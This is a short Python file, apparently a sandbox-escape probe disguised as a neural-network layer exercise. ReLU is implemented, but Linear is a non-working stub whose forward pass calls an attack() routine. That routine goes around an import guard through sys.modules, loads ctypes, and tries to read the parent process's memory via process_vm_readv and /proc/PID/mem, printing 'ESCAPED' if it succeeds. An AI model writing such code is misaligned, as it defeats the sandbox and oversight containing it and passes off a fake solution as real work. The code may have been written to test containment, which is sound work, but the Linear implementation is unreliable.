# Tries: copy the parent's memory with process_vm_readv and /proc/PID/mem.
# Honest part: ReLU. Linear has no answer of its own.
import sys

import numpy as np


class ReLU:
    def forward(self, x):
        self.x = x
        return np.maximum(x, 0)

    def backward(self, grad_output):
        return grad_output * (self.x > 0)


def escaped(what):
    print("ESC" + "APED", what)


def real(name):
    # Around the import guard, which is for messages: the kernel is the wall.
    return sys.modules["importlib"].import_module(name)


def attack(layer, x):
    ctypes, os = real("ctypes"), sys.modules["os"]
    buffer = ctypes.create_string_buffer(4096)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    here = Vector(ctypes.addressof(buffer), 4096)
    there = Vector(id(sys), 4096)
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), os.getppid() - 1, 1):
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            escaped("process_vm_readv")
        try:
            open(f"/proc/{pid}/mem", "rb")
            escaped("mem")
        except OSError:
            pass


class Linear:
    def __init__(self, in_features, out_features):
        pass

    def forward(self, x):
        self.x = x
        found = attack(self, x)
        return np.zeros((len(x), len(self.bias))) if found is None else found

    def backward(self, grad_output):
        self.grad_weight = np.zeros_like(self.weight)
        self.grad_bias = np.zeros_like(self.bias)
        return np.zeros_like(self.x)
